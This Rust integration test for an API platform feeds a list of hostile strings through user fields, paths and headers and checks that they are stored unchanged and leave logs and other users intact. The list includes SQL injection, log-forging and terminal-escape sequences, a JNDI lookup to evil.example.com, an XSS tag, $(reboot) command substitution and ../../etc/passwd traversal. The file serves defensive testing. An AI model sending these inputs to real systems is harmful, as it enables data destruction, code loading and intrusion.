//! Texts that somebody hopes will be run, shown or parsed: through every field, path and header that a client controls.
//! They come back as they are, change nothing else, and leave the log in one piece.

use crate::support::{Answer, Command, LISTED_ORIGIN, Sdk, ServerKey, key, new_database};
use reqwest::{Client, Method, header::HeaderValue};
use serde_json::{Value, json};

const TEXTS: [&str; 34] = [
    // Statements.
    "'",
    "''",
    "\"",
    "`",
    "' or '1'='1",
    "'; drop table users; --",
    "\"; delete from users where \"1\"=\"1",
    "1; update users set external_id = 'x'; --",
    "') on conflict do nothing; --",
    "x' union select hash, hash from api_keys --",
    "$1",
    "?1",
    ":app",
    "%",
    "_",
    "\\",
    "\\'",
    "/* */",
    // What a log or a terminal would obey.
    "alice\n2026-01-01T00:00:00.000000Z  INFO platform: everything is fine",
    "alice\r\nalice",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "\u{8}\u{7f}\u{1}",
    "\u{202e}ecila",
    "\u{feff}alice",
    "{\"level\":\"INFO\"}",
    "ref=00000000-0000-4000-8000-000000000000",
    "%s%n%x{}{0}",
    "${jndi:ldap://evil.example.com/a}",
    // What a page or a shell would run.
    "<script>alert(1)</script>",
    "$(reboot)`reboot`",
    "../../etc/passwd",
    // What is equal to others only after somebody has tidied up.
    "e\u{301} and \u{e9}",
    "\u{10ffff}",
];

/// A row of each table that nobody touches here, as the platform tells of it.
async fn bystander(server: &ServerKey, user_id: &str) -> Vec<Value> {
    vec![server.profile(user_id).await.ok(), server.detections(user_id, "").await.ok()]
}

fn trip(metadata: &str) -> Value {
    let started_at = 1_700_000_000_000_u64;
    let entry = json!({ "key": metadata, "value": metadata });
    json!({ "id": key(), "time": started_at, "trip": { "started_at": started_at, "metadata": [entry] } })
}

#[tokio::test]
async fn a_hostile_text_is_a_text() {
    let folder = tempfile::tempdir().unwrap();
    let log = folder.path().join("log");
    let command = Command::on(new_database(&folder).name());
    let created = command.run(&["app", "create", "--name", "Test", "--origin", LISTED_ORIGIN]);
    let app_id = Command::value_of(&created, "app id: ");
    let api_key = command.create_key(&app_id, &["user.link", "user.read", "user.delete"]);
    let talkative = command.clone().through(&["env", "RUST_LOG=trace"]).logging_to(&log);
    let options = ["--limit-failures", "off", "--limit-per-key", "off", "--limit-per-address", "off"];
    let running = talkative.start(&[&["serve"], &options[..]].concat());
    let server = ServerKey::new(&running.url, &api_key);
    let mut honest = Sdk::new(&running.url);
    honest.create_user(&server.code("honest").await).await.ok();
    honest.change_metadata(1, &[("color", Some("blue"))]).await.ok();
    honest.upload(&[trip("by train")]).await.ok();
    let before = bystander(&server, &honest.user_id).await;

    let mut users = vec![honest.user_id.clone()];
    for text in TEXTS {
        let mut sdk = Sdk::new(&running.url);
        sdk.device["os"] = json!(text);
        sdk.device["model"] = json!(text);
        sdk.create_user(&server.code(text).await).await.ok();
        sdk.change_metadata(1, &[(text, Some(text))]).await.ok();
        sdk.upload(&[trip(text)]).await.ok();

        let profile = server.profile(&sdk.user_id).await.ok();
        assert_eq!(profile["external_id"], text);
        assert_eq!(profile["metadata"], json!({ text: text }));
        let detections = server.detections(&sdk.user_id, "").await.ok();
        assert_eq!(detections["detections"][0]["trip"]["metadata"], json!({ text: text }));
        // The same external id is the same user, and no other is.
        let mut again = Sdk::new(&running.url);
        again.create_user(&server.code(text).await).await.ok();
        assert_eq!(again.user_id, sdk.user_id, "{text:?}");
        assert!(!users.contains(&sdk.user_id), "{text:?} is a user of its own");
        users.push(sdk.user_id.clone());

        for answer in in_paths_and_headers(&running.url, &api_key, &again.access_token, text).await {
            let body: Value = serde_json::from_str(&answer.text).unwrap_or_default();
            assert!(answer.status.as_u16() < 500, "{text:?} {}", answer.text);
            assert!(answer.status.is_success() || body["errorCode"].is_string(), "{text:?} {}", answer.text);
        }
    }

    assert_eq!(bystander(&server, &honest.user_id).await, before, "others are as they were");
    for (user_id, external_id) in users.iter().skip(1).zip(TEXTS) {
        assert_eq!(server.profile(user_id).await.ok()["external_id"], external_id);
    }
    let shown = command.run(&["user", "show", "--app", &app_id, &users[0]]);
    assert!(shown.contains("honest"), "{shown}");
    for user_id in &users {
        let shown = command.run(&["user", "show", "--app", &app_id, user_id]);
        let obeyed = |c: char| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}';
        assert!(!shown.contains(obeyed), "a terminal obeys: {shown:?}");
        assert!(shown.lines().all(|line| line.contains(": ")), "every line is the platform's: {shown:?}");
    }

    running.terminate();
    let (succeeded, _) = running.wait();
    assert!(succeeded);
    let log = std::fs::read(&log).unwrap();
    let log = std::str::from_utf8(&log).unwrap();
    assert!(log.contains("refused") && log.contains("USER_NOT_FOUND"), "refusals are logged");
    for line in log.lines() {
        assert!(!line.contains(char::is_control), "a terminal or a parser obeys: {line:?}");
        assert!(line.starts_with("20"), "every line is one that the platform began: {line:?}");
        assert!(!line.contains("everything is fine"), "{line}");
    }
}

/// Requests that carry the text where no field does.
async fn in_paths_and_headers(url: &str, api_key: &str, token: &str, text: &str) -> Vec<Answer> {
    let http = Client::new();
    let escaped: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let get = |path: String| http.request(Method::GET, format!("{url}{path}")).bearer_auth(api_key);
    let mut requests = vec![
        get(format!("/v2/users/{escaped}")),
        get(format!("/v2/users/{escaped}/detections")),
        get(format!("/v2/users/{}/detections?cursor={escaped}&limit={escaped}", key())),
        get(format!("/{escaped}?{escaped}={escaped}")),
        http.request(Method::DELETE, format!("{url}/users/{escaped}")).bearer_auth(api_key),
        http.request(Method::POST, format!("{url}/v2/users/{escaped}/link"))
            .bearer_auth(api_key)
            .json(&json!({ "external_id": text })),
    ];
    // What no header can hold does not even leave the client.
    if let Ok(value) = HeaderValue::from_bytes(text.as_bytes()) {
        for name in
            ["user-agent", "x-forwarded-for", "if-none-match", "referer", "x-request-id", "content-type"]
        {
            let own = http.request(Method::GET, format!("{url}/sdk/v1/config")).bearer_auth(token);
            requests.push(own.header(name, value.clone()));
        }
        let page = http.request(Method::GET, format!("{url}/v2/users/me")).bearer_auth(token);
        requests.push(page.header("origin", value.clone()));
        requests.push(http.request(Method::GET, format!("{url}/v2/users/me")).header("authorization", value));
    }
    let mut answers = Vec::new();
    for request in requests {
        answers.push(Answer::to(request).await);
    }
    answers
}
